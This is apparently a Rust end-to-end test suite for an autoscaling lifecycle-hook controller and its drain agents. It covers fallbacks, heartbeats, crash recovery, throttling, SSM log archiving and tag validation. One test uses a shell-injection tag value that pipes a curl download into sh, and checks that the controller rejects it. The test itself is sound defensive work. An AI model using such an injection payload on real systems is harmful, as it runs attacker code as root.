//! The real controller (and agents) against the emulator: it follows agents that drain, takes
//! over from absent and dead ones with the group's fallback, and survives its own SIGKILL.

// Test code: a failed unwrap is a failed test, with its message.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use lifeguard_e2e::agent::{AgentProcess, config_for};
use lifeguard_e2e::controller::scene;
use lifeguard_e2e::eventually;
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(60);

fn row<'a>(status: &'a [Value], instance_id: &str) -> &'a Value {
    status
        .iter()
        .find(|r| r["instance_id"] == instance_id)
        .unwrap_or_else(|| panic!("{instance_id} not in status: {status:?}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agents_that_drain_are_followed_not_overruled() {
    let scene = scene(2, 30, &[]).await;
    let stage = &scene.stage;
    let controller = scene.start_controller(
        "ctl",
        "agent_grace_secs = 20\nreport_silence_secs = 20\nfallback_result = \"ABANDON\"",
    );
    controller.wait_ready().await;
    let mut agents = Vec::new();
    for (i, instance) in stage.instances.iter().enumerate() {
        let dir = stage.path(&format!("agent-{i}"));
        std::fs::create_dir_all(&dir).unwrap();
        let extra = format!(
            "{}\n[[drain.steps]]\nname = \"settle\"\nrun = [\"sleep\", \"1\"]\n",
            stage.archive_config()
        );
        let agent = AgentProcess::start(&dir, &config_for(&stage.emulator, instance, &dir, &extra));
        agent.wait_for_log("lifeguard-agent watching", WAIT).await;
        agents.push(agent);
    }

    stage
        .clients
        .autoscaling
        .set_desired_capacity()
        .auto_scaling_group_name(lifeguard_e2e::drain::GROUP)
        .desired_capacity(0)
        .send()
        .await
        .unwrap();
    for instance in &stage.instances {
        stage.wait_terminated(instance, WAIT).await;
    }
    for agent in &agents {
        agent.wait_for_log("drain finished", WAIT).await;
    }

    // Each action completed once, by its agent, with CONTINUE; the controller only followed.
    let status = eventually("both outcomes recorded", WAIT, || async {
        let status = controller.status();
        let done = stage.instances.iter().all(|i| {
            status
                .iter()
                .any(|r| r["instance_id"] == *i && r["ended_by"] == "agent")
        });
        done.then_some(status)
    })
    .await;
    for instance in &stage.instances {
        assert_eq!(
            stage.completions(instance).await,
            vec![(200, "CONTINUE".to_string())],
            "{instance}"
        );
        let row = row(&status, instance);
        assert_eq!(row["outcome"], "CONTINUE", "{row}");
        assert_eq!(row["transition"], "terminate", "{row}");
        assert_eq!(row["agent"], "drain_finished", "{row}");
        assert!(row["duration_secs"].as_i64().unwrap() >= 1, "{row}");
    }
    assert_eq!(controller.metric("lifeguard_fallbacks_total").await, 0.0);
    assert_eq!(controller.metric("lifeguard_heartbeats_total").await, 0.0);
    assert_eq!(
        controller
            .metric("lifeguard_drains_completed_total{result=\"CONTINUE\",by=\"agent\"}")
            .await,
        2.0
    );
    let log = controller.process.log();
    assert!(!log.contains("completed by the controller"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_instance_without_an_agent_gets_the_groups_fallback_after_the_grace() {
    // The group's tag says CONTINUE; the configured default and the hook's default say ABANDON.
    let scene = scene(1, 30, &[("lifeguard:fallback-result", "CONTINUE")]).await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller =
        scene.start_controller("ctl", "agent_grace_secs = 4\nfallback_result = \"ABANDON\"");
    controller.wait_ready().await;

    stage.terminate(&victim).await;
    let action = scene.wait_for_action(&victim, WAIT).await;
    assert_eq!(action["transition"], "autoscaling:EC2_INSTANCE_TERMINATING");
    stage.wait_terminated(&victim, WAIT).await;

    assert_eq!(
        stage.completions(&victim).await,
        vec![(200, "CONTINUE".to_string())]
    );
    let status = controller.status();
    let row = row(&status, &victim);
    assert_eq!(row["outcome"], "CONTINUE", "{row}");
    assert_eq!(row["ended_by"], "controller", "{row}");
    assert_eq!(row["agent"], Value::Null, "{row}");
    // Not before the grace ran out.
    let took = row["duration_secs"].as_i64().unwrap();
    assert!((4..30).contains(&took), "{row}");
    assert_eq!(controller.metric("lifeguard_fallbacks_total").await, 1.0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_controller_takes_over_when_the_agents_reports_stop() {
    // Heartbeat timeout 20 s (AWS's floor is 30 s): the agent records a heartbeat about every
    // 7 s while its step runs, and the takeover after 5 s of silence comes well before the
    // action could expire, even on a loaded machine.
    let scene = scene(1, 20, &[]).await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller = scene.start_controller(
        "ctl",
        "agent_grace_secs = 30\nreport_silence_secs = 5\nfallback_result = \"ABANDON\"",
    );
    controller.wait_ready().await;
    // The agent promises a report every second, so 5 s of silence is past three of them.
    let extra = format!(
        "{}\n[[drain.steps]]\nname = \"long\"\nrun = [\"sleep\", \"120\"]\ntimeout_secs = 300\n",
        stage
            .archive_config()
            .replace("[report]\n", "[report]\ninterval_secs = 1\n")
    );
    let mut agent = AgentProcess::start(
        stage.dir.path(),
        &config_for(&stage.emulator, &victim, stage.dir.path(), &extra),
    );
    agent.wait_for_log("lifeguard-agent watching", WAIT).await;

    stage.terminate(&victim).await;
    // The controller has taken in the agent's reports before the agent dies.
    eventually("the agent's reports to be marked", WAIT, || async {
        let status = controller.status();
        status
            .iter()
            .any(|r| r["instance_id"] == victim && r["agent"] == "drain_heartbeat")
            .then_some(())
    })
    .await;
    agent.kill9();
    let killed_at = scene.last_call_seq().await;

    stage.wait_terminated(&victim, WAIT).await;
    let completions = stage.completions(&victim).await;
    assert_eq!(completions, vec![(200, "ABANDON".to_string())]);
    let status = controller.status();
    let row = row(&status, &victim);
    assert_eq!(row["outcome"], "ABANDON", "{row}");
    assert_eq!(row["ended_by"], "controller", "{row}");
    // The completion came after the agent died, by the controller.
    let calls = stage
        .emulator
        .calls("autoscaling", "CompleteLifecycleAction", Some(&victim))
        .await;
    assert!(calls[0]["seq"].as_u64().unwrap() > killed_at);
    let log = controller.process.log();
    assert!(log.contains("the agent's reports stopped"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_controller_rebuilds_its_watch_and_keeps_the_action_alive() {
    // Heartbeat timeout 30 s (AWS's least), grace 45 s: without heartbeats across the restart
    // the hook would time out with its default (ABANDON) before the fallback (CONTINUE) is due.
    // (A 4 s timeout left a loaded machine too little time to restart the controller.)
    let scene = scene(1, 30, &[]).await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let defaults =
        "agent_grace_secs = 45\nfallback_result = \"CONTINUE\"\nheartbeat_while_waiting = true";
    let mut controller = scene.start_controller("ctl", defaults);
    controller.wait_ready().await;

    stage.terminate(&victim).await;
    eventually("a heartbeat from the controller", WAIT, || async {
        (!scene.heartbeats(&victim).await.is_empty()).then_some(())
    })
    .await;
    controller.process.kill9();
    let killed_at = scene.last_call_seq().await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    controller.process.restart();

    stage.wait_terminated(&victim, WAIT).await;
    let after_restart: Vec<u64> = scene
        .heartbeats(&victim)
        .await
        .into_iter()
        .filter(|seq| *seq > killed_at)
        .collect();
    assert!(!after_restart.is_empty(), "no heartbeat after the restart");
    assert_eq!(
        stage.completions(&victim).await,
        vec![(200, "CONTINUE".to_string())],
        "one completion, the controller's fallback, not the hook's timeout"
    );
    let status = controller.status();
    let row = row(&status, &victim);
    assert_eq!(row["outcome"], "CONTINUE", "{row}");
    assert_eq!(row["ended_by"], "controller", "{row}");
    // The grace was counted from the action's start, not from the restart.
    let took = row["duration_secs"].as_i64().unwrap();
    assert!((45..55).contains(&took), "{row}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn throttling_delays_a_completion_but_never_loses_it() {
    let scene = scene(1, 60, &[]).await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller = scene.start_controller(
        "ctl",
        "agent_grace_secs = 3\nfallback_result = \"CONTINUE\"",
    );
    controller.wait_ready().await;
    // More throttled answers than the SDK's attempts per call (3): the controller's own retry
    // has to carry the completion through.
    stage
        .emulator
        .control_post(
            "faults",
            serde_json::json!({"service": "autoscaling", "action": "CompleteLifecycleAction",
                               "mode": "throttle", "count": 4}),
        )
        .await;

    stage.terminate(&victim).await;
    stage.wait_terminated(&victim, WAIT).await;

    let completions = stage.completions(&victim).await;
    let statuses: Vec<u64> = completions.iter().map(|(status, _)| *status).collect();
    assert_eq!(statuses, [400, 400, 400, 400, 200], "{completions:?}");
    assert!(completions.iter().all(|(_, result)| result == "CONTINUE"));
    let throttled = controller
        .metric("lifeguard_lifecycle_api_errors_total{operation=\"CompleteLifecycleAction\",code=\"Throttling\"}")
        .await;
    assert_eq!(throttled, 1.0);
    let status = controller.status();
    let row = row(&status, &victim);
    assert_eq!(row["outcome"], "CONTINUE", "{row}");
    assert_eq!(row["ended_by"], "controller", "{row}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agentless_instance_gets_its_logs_archived_through_ssm_before_the_fallback() {
    let scene = scene(
        1,
        60,
        &[
            ("lifeguard:archive-bucket", lifeguard_e2e::drain::BUCKET),
            ("lifeguard:fallback-result", "CONTINUE"),
        ],
    )
    .await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller = scene.start_controller("ctl", "agent_grace_secs = 3");
    controller.wait_ready().await;

    stage.terminate(&victim).await;
    stage.wait_terminated(&victim, WAIT).await;

    // One Run Command, to that instance, taring the logs into the group's bucket. (The
    // emulator records the command and reports it successful; it runs nothing.)
    let sent = stage
        .emulator
        .calls("ssm", "SendCommand", Some(&victim))
        .await;
    assert_eq!(sent.len(), 1, "{sent:?}");
    let params = &sent[0]["params"];
    assert_eq!(sent[0]["status"], 200, "{sent:?}");
    assert_eq!(params["DocumentName"], "lifeguard-ArchiveLogs");
    assert_eq!(params["InstanceIds"], serde_json::json!([victim]));
    assert_eq!(
        params["Parameters"]["bucket"],
        serde_json::json!([lifeguard_e2e::drain::BUCKET])
    );
    assert_eq!(
        params["Parameters"]["paths"],
        serde_json::json!(["/var/log"])
    );
    // The document adds the instance's own `aws:userid` between the two, the level the agent's
    // IAM policy confines each instance to.
    assert_eq!(
        params["Parameters"]["directory"],
        serde_json::json!([format!("lifeguard/web/{victim}")])
    );
    let name = params["Parameters"]["name"][0].as_str().unwrap();
    assert!(name.ends_with("-agentless.tar.gz"), "{name}");
    // Followed to its end, then the fallback, once, after it.
    let looked = stage
        .emulator
        .calls("ssm", "GetCommandInvocation", Some(&victim))
        .await;
    assert!(!looked.is_empty());
    let completions = stage
        .emulator
        .calls("autoscaling", "CompleteLifecycleAction", Some(&victim))
        .await;
    assert_eq!(completions.len(), 1, "{completions:?}");
    assert_eq!(
        completions[0]["params"]["LifecycleActionResult"],
        "CONTINUE"
    );
    assert!(completions[0]["seq"].as_u64() > looked[0]["seq"].as_u64());
    let status = controller.status();
    let row = row(&status, &victim);
    assert_eq!(row["ended_by"], "controller", "{row}");
    let log = controller.process.log();
    assert!(
        log.contains("archiving the logs through SSM Run Command"),
        "{log}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_group_tag_carrying_shell_code_never_reaches_an_instance() {
    // Anyone who may tag the group could otherwise run code as root on every instance.
    let hostile = "x'; curl -s http://127.0.0.1:9/p | sh; echo '";
    // The hook's default heartbeat timeout, as AWS creates it.
    let scene = scene(
        1,
        3600,
        &[
            ("lifeguard:archive-bucket", hostile),
            ("lifeguard:fallback-result", "CONTINUE"),
        ],
    )
    .await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller = scene.start_controller("ctl", "agent_grace_secs = 3");
    controller.wait_ready().await;

    stage.terminate(&victim).await;
    stage.wait_terminated(&victim, WAIT).await;

    // No command at all: the tag was refused as a whole, so the configured policy (no agentless
    // archive, fallback ABANDON) applied, and the refusal is in the log with the tag's name.
    let sent = stage.emulator.calls("ssm", "SendCommand", None).await;
    assert!(sent.is_empty(), "{sent:?}");
    assert_eq!(
        stage.completions(&victim).await,
        vec![(200, "ABANDON".to_string())]
    );
    let log = controller.process.log();
    assert!(
        log.contains("group tag ignored") && log.contains("archive_bucket"),
        "{log}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_absurd_duration_tag_is_refused_and_supervision_goes_on() {
    // 2^64-1 seconds once overflowed a time sum and ended the supervisor while /healthz still
    // answered 200.
    let scene = scene(
        1,
        60,
        &[("lifeguard:agent-grace-secs", "18446744073709551615")],
    )
    .await;
    let stage = &scene.stage;
    let victim = stage.instances[0].clone();
    let controller = scene.start_controller("ctl", "agent_grace_secs = 3");
    controller.wait_ready().await;

    stage.terminate(&victim).await;
    stage.wait_terminated(&victim, WAIT).await;

    // The configured grace applied: the controller's fallback, long before the hook's timeout.
    assert_eq!(
        stage.completions(&victim).await,
        vec![(200, "ABANDON".to_string())]
    );
    let (status, body) = controller.get("/healthz").await;
    assert_eq!(status, 200, "{body}");
    let log = controller.process.log();
    assert!(
        log.contains("group tag ignored") && log.contains("agent_grace_secs"),
        "{log}"
    );
    assert!(!log.contains("panicked"), "{log}");
}
